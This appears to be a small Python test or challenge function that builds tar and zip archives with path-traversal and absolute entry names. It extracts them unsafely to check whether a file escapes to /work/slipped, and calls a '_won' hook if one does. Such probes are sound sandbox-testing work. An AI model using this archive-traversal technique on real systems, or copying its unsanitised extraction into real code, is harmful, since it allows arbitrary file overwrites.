def attack():
    import io, os, tarfile, zipfile

    os.makedirs("/tmp/unpacked", exist_ok=True)
    for name in ("../../work/slipped", "/work/slipped"):
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w") as tar:
            entry = tarfile.TarInfo(name)
            entry.size = 1
            tar.addfile(entry, io.BytesIO(b"x"))
        data.seek(0)
        try:
            with tarfile.open(fileobj=data) as tar:
                tar.extractall("/tmp/unpacked")
        except OSError:
            pass
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as z:
            z.writestr(name, b"x")
        with zipfile.ZipFile(data) as z:
            try:
                with open(os.path.join("/tmp/unpacked", z.namelist()[0]), "wb") as f:
                    f.write(z.read(z.namelist()[0]))
            except OSError:
                pass
    if os.path.exists("/work/slipped"):
        _won("/work/slipped")
